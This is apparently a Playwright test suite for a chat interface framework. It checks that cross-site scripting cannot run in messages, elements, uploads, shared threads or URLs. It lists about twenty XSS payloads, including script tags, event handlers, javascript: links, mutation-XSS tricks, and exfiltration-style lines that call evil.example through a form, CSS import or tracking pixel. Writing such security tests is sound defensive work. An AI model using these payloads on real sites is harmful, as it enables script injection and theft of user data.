"""Somebody tries to have his script run in another's page: through all that a page shows and keeps."""

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.async_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

ATTACKS = (
    "<img src=x onerror=boom(1)>",
    "<script>boom(2)</script>",
    '"><svg onload=boom(3)>',
    '<iframe srcdoc="<script>parent.boom(4)</script>"></iframe>',
    "<a href=javascript:boom(5)>link</a>",
    "<details open ontoggle=boom(6)>more</details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom(7)&gt;">',
    "[link](javascript:boom(8)) [link](JaVaScRiPt&colon;boom(9)) [link](data:text/html,<script>boom(10)</script>)",
    "![image](javascript:boom(11)) ![image](data:image/svg+xml,<svg/onload=boom(12)>)",
    "[ref]\n\n[ref]: javascript:boom(13)",
    "<javascript:boom(14)>",
    "$\\href{javascript:boom(15)}{x}$ \\(\\htmlData{x=y}{z}\\) $\\includegraphics{javascript:boom(16)}$",
    '```mermaid\ngraph TD; A["<img src=x onerror=boom(17)>"]; click A "javascript:boom(18)"\n```',
    "[^1]\n\n[^1]: <img src=x onerror=boom(19)> [x](javascript:boom(20))",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><button>press</button></form>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x) }</style>",
    "![track](https://evil.example/pixel.png?secret)",
    "{{constructor.constructor('boom(21)')()}}",
    "\u2028</script><script>boom(22)</script>",
)

APP = """
import convo

ATTACKS = __ATTACKS__
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="boom(30)"><script>boom(31)</script></svg>'


@convo.set_starters
async def starters(*_):
    return [convo.Starter(label=ATTACKS[0], message=ATTACKS[1], icon="javascript:boom(40)")]


@convo.on_chat_start
async def start():
    await convo.ChatSettings([convo.input_widget.TextInput(id="x", label=ATTACKS[0], initial=ATTACKS[1])]).send()


@convo.on_message
async def answer(message):
    for attack in ATTACKS:
        async with convo.Step(attack, type="tool") as step:
            step.input, step.output = attack, {attack: attack}
        await convo.Message(
            attack,
            author=attack,
            metadata={attack: attack},
            actions=[convo.Action(attack, payload={}, label=attack, tooltip=attack, icon=attack)],
        ).send()
    await convo.Message(
        "elements",
        elements=[
            convo.Text(name=ATTACKS[0], content=ATTACKS[0], display="inline"),
            convo.Text(name=ATTACKS[2], content=ATTACKS[1], display="side"),
            convo.File(name=ATTACKS[0] + ".html", content="<script>boom(32)</script>", mime="text/html"),
            convo.Image(name=ATTACKS[2], content=SVG.encode(), mime="image/svg+xml", display="inline"),
            convo.CustomElement("Part", props={"text": ATTACKS[0], "dangerouslySetInnerHTML": {"__html": ATTACKS[0]}}),
        ],
    ).send()
    tasks = convo.TaskList(status=ATTACKS[0])
    await tasks.add_task(convo.Task(title=ATTACKS[0]))
    await tasks.send()
    await convo.context.emitter.send_toast(ATTACKS[0])
    await convo.Message("That was all.").send()
"""

TRAP = """
window.booms = [];
window.boom = (what) => { (window.top ?? window).booms?.push(what); };
window.alert = window.confirm = window.prompt = () => window.boom("dialog");
"""


@pytest.mark.parametrize("html", ["false", "true"])
async def test_nothing_that_anybody_says_runs(serve: Any, context: Any, tmp_path: Path, html: str) -> None:
    (tmp_path / "public" / "elements").mkdir(parents=True)
    (tmp_path / "public" / "elements" / "Part.jsx").write_text(
        "export default function Part() { return <p {...{}}>{props.text}</p> }"
    )
    app = APP.replace("__ATTACKS__", repr(ATTACKS))
    server = await serve(app=app, settings={"FEATURES__UNSAFE_ALLOW_HTML": html})
    await context.add_init_script(TRAP)
    page = await context.new_page()
    hosts: set[str] = set()
    errors: list[str] = []
    page.on("request", lambda request: hosts.add(request.url.partition("://")[2].partition("/")[0]))
    page.on("pageerror", lambda error: errors.append(str(error)))
    await page.goto(server.url)
    await page.evaluate("localStorage.setItem('convo:theme', '\"><img src=x onerror=boom(50)>')")
    await page.goto(f"{server.url}/?x=<script>boom(51)</script>#<img src=x onerror=boom(52)>")
    composer = page.get_by_role("textbox", name="Message")
    for name, mime, content in (
        (
            "<img src=x onerror=boom(60)>.svg",
            "image/svg+xml",
            b"<svg onload=boom(61) xmlns='http://www.w3.org/2000/svg'/>",
        ),
        ('x" onload="boom(62).html', "text/html", b"<script>boom(63)</script>"),
    ):
        await page.locator("input[type=file]").set_input_files({"name": name, "mimeType": mime, "buffer": content})
    await composer.fill("\n\n".join(ATTACKS))
    await expect(page.locator(".attachment.is-done")).to_have_count(2)  # until then Enter asks to wait
    await composer.press("Enter")
    await page.get_by_text("That was all.").wait_for()
    await page.frame_locator("iframe").first.get_by_text("<img src=x").first.wait_for()
    for button in await page.get_by_role("button", name="link").all():
        await button.click()
    await page.wait_for_timeout(500)
    await page.screenshot(path=Path(__file__).parents[2] / "test-results" / f"attacks-html-{html}.png")
    links = await page.evaluate("[...document.querySelectorAll('a[href]')].map((a) => a.href)")
    assert all(link.startswith(("http://", "https://", "mailto:", "blob:")) for link in links), links
    handlers = "[...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name)))"
    assert await page.evaluate(f"{handlers}.length") == 0
    await page.reload()  # it is stored, and shown again
    await page.get_by_text("That was all.").wait_for()
    assert await page.evaluate("window.booms") == []
    assert errors == []
    assert {host for host in hosts if not host.startswith("127.0.0.1")} <= {""}, hosts

    # Opened on its own, too, what somebody sent is downloaded and nothing of it runs.
    files = await page.evaluate(
        "performance.getEntriesByType('resource').map((e) => e.name).filter((name) => name.includes('/files/'))"
    )
    files += await page.evaluate(
        "[...document.querySelectorAll('a[href*=\"/files/\"]')].map((a) => a.href.replace(/\\?.*/, ''))"
    )
    assert files
    for url in set(files):
        shown = await context.request.get(url)
        policy, disposition = (shown.headers[name] for name in ("content-security-policy", "content-disposition"))
        assert "sandbox" in policy, url
        assert shown.headers["x-content-type-options"] == "nosniff"
        if shown.headers["content-type"].startswith(("text/html", "image/svg")):
            assert disposition.startswith("attachment"), url

    # The address of a chat is a text like others.
    await page.goto(f"{server.url}/thread/" + quote('"><img src=x onerror=boom(70)>', safe=""))
    await page.wait_for_timeout(300)
    assert await page.evaluate("window.booms") == []
    assert json.loads(await page.locator("#convo-config").text_content())["html"] is (html == "true")


SHARED = """
import convo

ATTACKS = __ATTACKS__


@convo.on_message
async def answer(message):
    elements = [convo.CustomElement("Raw", props={"html": attack}, display="inline") for attack in ATTACKS[:8]]
    elements += [convo.CustomElement("Raw", props={"html": attack}, display="page") for attack in ATTACKS[:2]]
    elements += [convo.Text(name=f"page {attack}", content=attack, display="page") for attack in ATTACKS]
    await convo.Message("All of it.", elements=elements).send()
"""

RAW = """
export default function Raw() {
  return <div><p>It is drawn.</p><div dangerouslySetInnerHTML={{ __html: props.html }} /></div>;
}
"""

INSIDE = """
window.ran = [];
window.boom = (what) => window.ran.push(what);
window.alert = window.confirm = window.prompt = () => window.ran.push("dialog");
"""


async def test_nothing_runs_in_what_is_shared_either(serve: Any, chromium: Any, context: Any, tmp_path: Path) -> None:
    """With a component whose author has let in whatever he is given: its frame's policy is what is left."""
    (tmp_path / "public" / "elements").mkdir(parents=True)
    (tmp_path / "public" / "elements" / "Raw.jsx").write_text(RAW)
    server = await serve(app=SHARED.replace("__ATTACKS__", repr(ATTACKS)), settings=SHARING)
    owner = await context.new_page()
    await owner.goto(server.url)
    composer = owner.get_by_role("textbox", name="Message")
    await composer.fill(ATTACKS[0])
    await composer.press("Enter")
    await owner.get_by_text("All of it.").wait_for()
    await owner.wait_for_url("**/thread/*")
    thread = owner.url.rpartition("/")[2]
    made = await context.request.post(f"{server.url}/api/v1/threads/{thread}/shares", data={"kind": "live"})
    share = (await made.json())["id"]

    elsewhere = await chromium.new_context()
    await elsewhere.add_init_script(INSIDE)
    page = await elsewhere.new_page()
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(request.url.partition("://")[2].partition("/")[0]))

    async def drawn(frame: Any) -> None:
        """Its component is there, with all that it was given, and nothing of that has run."""
        inside = frame.content_frame
        await inside.get_by_text("It is drawn.").wait_for()
        assert await inside.locator("body").evaluate("() => window.ran") == []

    await page.goto(f"{server.url}/share/{share}")
    await page.get_by_text("All of it.").wait_for()
    for number in range(8):
        frame = page.locator("iframe").nth(number)
        await frame.scroll_into_view_if_needed()
        await drawn(frame)
    assert await page.evaluate("window.ran") == []

    shown = await (await elsewhere.request.get(f"{server.url}/api/v1/shares/{share}")).json()
    elements = shown["state"]["elements"]
    assert len(elements) == 10 + len(ATTACKS)
    for element in elements[8:16]:
        await page.goto(f"{server.url}/share/{share}/element/{element['id']}")
        main = page.get_by_role("main")  # the chat behind it is hidden
        if element["type"] == "custom":
            await drawn(main.locator("iframe"))
        else:
            await main.get_by_text("page ").first.wait_for()
        assert await page.evaluate("window.ran") == [], element
        assert page.url.endswith(element["id"])
    assert {host for host in hosts if not host.startswith("127.0.0.1")} <= {""}, hosts
    await elsewhere.close()


SHARING = {"FEATURES__ALLOW_THREAD_SHARING": "true", "DATA__URL": "sqlite:///history.db"}
